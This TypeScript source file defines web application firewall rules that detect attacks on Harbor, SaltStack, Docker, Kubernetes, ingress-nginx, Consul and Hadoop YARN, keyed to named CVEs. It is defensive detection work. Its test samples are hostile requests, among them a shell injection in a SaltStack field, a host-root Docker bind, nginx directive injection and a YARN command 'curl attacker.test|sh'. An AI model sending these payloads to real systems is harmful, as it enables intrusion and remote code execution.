import { formPost, get, jsonPost, send } from '../../../request-samples.ts';
import {
  allOf,
  anyOf,
  bodyHas,
  bodyMatches,
  fieldHasShell,
  fieldMatches,
  pathEnds,
  pathHas,
  pathMatches,
  queryHas,
} from '../conditions.ts';
import { detection } from '../targeted-rule.ts';

export const containerRules = [
  detection({
    ref: 'managed-harbor-administrator',
    description: 'Harbor: registers a user as an administrator (CVE-2019-16097)',
    categories: ['harbor', 'broken-access-control', 'cve-2019-16097'],
    expression: allOf(
      pathHas('/api/users', '/api/v2.0/users'),
      bodyMatches('"(?:has_admin_role|sysadmin_flag)" *: *true'),
    ),
    matching: [
      jsonPost('/api/users', { username: 'eve', password: 'x', has_admin_role: true }),
      jsonPost('/api/v2.0/users', { username: 'eve', sysadmin_flag: true }),
    ],
    other: [
      jsonPost('/api/users', { username: 'ada', has_admin_role: false }),
      jsonPost('/api/teams', { has_admin_role: true }),
    ],
  }),
  detection({
    ref: 'managed-saltstack-ssh-key',
    description:
      'SaltStack: runs commands with the name of a key, or writes files (CVE-2020-16846, CVE-2020-25592, CVE-2021-25281)',
    categories: [
      'saltstack',
      'command-injection',
      'authentication-bypass',
      'cve-2020-16846',
      'cve-2020-25592',
      'cve-2021-25281',
    ],
    expression: allOf(
      pathEnds('/run'),
      anyOf(fieldHasShell('ssh_priv'), bodyHas('"wheel_async"', 'pillar_roots.write')),
    ),
    matching: [
      formPost('/run', {
        token: 'x',
        client: 'ssh',
        tgt: '*',
        fun: 'a',
        roster: 'a',
        ssh_priv: '|id;',
      }),
      jsonPost('/run', {
        eauth: 'auto',
        client: 'wheel_async',
        fun: 'pillar_roots.write',
        data: 'x',
      }),
    ],
    other: [
      formPost('/run', { client: 'local', tgt: '*', fun: 'test.ping' }),
      formPost('/run', { distance: '5' }),
    ],
  }),
  detection({
    ref: 'managed-docker-api',
    description:
      'Docker: creates a container with a folder of the host, through an API that is open to the Internet',
    categories: ['docker', 'broken-access-control', 'remote-code-execution'],
    expression: allOf(
      pathHas('/containers/create', '/exec'),
      bodyHas('"image"', '"cmd"'),
      bodyHas('"binds"', '"hostconfig"', '"privileged"', '"attachstdout"'),
    ),
    matching: [
      jsonPost('/v1.43/containers/create', {
        Image: 'alpine',
        Cmd: ['sh'],
        HostConfig: { Binds: ['/:/mnt'] },
      }),
      jsonPost('/v1.24/containers/5f3a/exec', {
        AttachStdout: true,
        Cmd: ['id'],
        Privileged: true,
      }),
    ],
    other: [
      jsonPost('/api/containers/create', { number: 'MSKU1234567', image: 'photo.jpg' }),
      get('/v1.43/containers/json'),
    ],
  }),
  detection({
    ref: 'managed-kubernetes-api',
    description:
      'Kubernetes: lists secrets or runs commands in pods through an API that is open to the Internet. Off by default, because some clusters publish their API',
    categories: ['kubernetes', 'broken-access-control', 'information-disclosure'],
    action: 'log',
    isOff: true,
    expression: allOf(
      pathHas('/api/v1/'),
      pathMatches('^/api/v1/(?:secrets|namespaces/[^/]+/(?:secrets|pods/[^/]+/exec))'),
    ),
    matching: [
      get('/api/v1/secrets?limit=500'),
      get('/api/v1/namespaces/default/pods/web-1/exec?command=id'),
    ],
    other: [get('/api/v1/items'), get('/api/v1/namespaces')],
  }),
  detection({
    ref: 'managed-kubernetes-ingress-admission',
    description:
      'Kubernetes ingress-nginx: runs code with directives in annotations (IngressNightmare, CVE-2025-1097, CVE-2025-1098, CVE-2025-1974, CVE-2025-24514)',
    categories: [
      'kubernetes',
      'nginx',
      'code-injection',
      'remote-code-execution',
      'cve-2025-1097',
      'cve-2025-1098',
      'cve-2025-1974',
      'cve-2025-24514',
    ],
    expression: allOf(
      pathHas('/networking/v1/ingresses', '/validate', '/admission'),
      bodyHas('admissionreview'),
      bodyHas('ssl_engine', 'load_module', '#;', ';\\n', '}\\n'),
    ),
    matching: [
      jsonPost('/networking/v1/ingresses', {
        kind: 'AdmissionReview',
        request: {
          object: {
            metadata: {
              annotations: {
                'nginx.ingress.kubernetes.io/auth-url': 'http://a.test/#;load_module x;',
              },
            },
          },
        },
      }),
      jsonPost('/validate', {
        kind: 'AdmissionReview',
        request: {
          object: {
            metadata: {
              annotations: {
                'nginx.ingress.kubernetes.io/mirror-target': '}\n ssl_engine /proc/9/fd/5',
              },
            },
          },
        },
      }),
    ],
    other: [
      jsonPost('/networking/v1/ingresses', {
        kind: 'AdmissionReview',
        request: {
          object: {
            metadata: {
              annotations: { 'nginx.ingress.kubernetes.io/auth-url': 'https://auth.example.com' },
            },
          },
        },
      }),
      jsonPost('/validate', { address: 'Main Street #;5' }),
    ],
  }),
  detection({
    ref: 'managed-consul-check-script',
    description: 'HashiCorp Consul: registers a service whose health check is a command',
    categories: ['consul', 'command-injection', 'remote-code-execution'],
    expression: allOf(
      pathHas('/v1/agent/service/register', '/v1/agent/check/register'),
      bodyMatches('"(?:script|args)" *: *(?:"|\\[)'),
    ),
    matching: [
      send(
        'PUT',
        '/v1/agent/service/register',
        'application/json',
        '{"ID":"x","Name":"x","Check":{"Script":"id","Interval":"10s"}}',
      ),
      send(
        'PUT',
        '/v1/agent/check/register',
        'application/json',
        '{"Name":"x","Args":["sh","-c","id"]}',
      ),
    ],
    other: [
      send(
        'PUT',
        '/v1/agent/service/register',
        'application/json',
        '{"Name":"web","Port":80,"Check":{"HTTP":"http://localhost","Interval":"10s"}}',
      ),
      get('/v1/agent/services'),
    ],
  }),
  detection({
    ref: 'managed-hadoop-yarn-application',
    description: 'Hadoop YARN, Spark: submit an application that runs a command (CVE-2022-33891)',
    categories: [
      'hadoop',
      'apache-spark',
      'command-injection',
      'remote-code-execution',
      'cve-2022-33891',
    ],
    expression: anyOf(
      allOf(pathHas('/ws/v1/cluster/apps'), bodyHas('am-container-spec', '"commands"')),
      allOf(pathHas('/v1/submissions/create'), bodyHas('"appresource"')),
      allOf(queryHas('doas='), fieldMatches('doAs', '`|\\$\\(|;')),
    ),
    matching: [
      jsonPost('/ws/v1/cluster/apps', {
        'application-id': 'application_1',
        'am-container-spec': { commands: { command: 'curl attacker.test|sh' } },
      }),
      jsonPost('/v1/submissions/create', {
        action: 'CreateSubmissionRequest',
        appResource: 'http://attacker.test/x.jar',
        mainClass: 'X',
      }),
      get('/jobs/?doAs=%60id%60'),
    ],
    other: [get('/ws/v1/cluster/apps?states=RUNNING'), get('/jobs/?doAs=ada')],
  }),
];
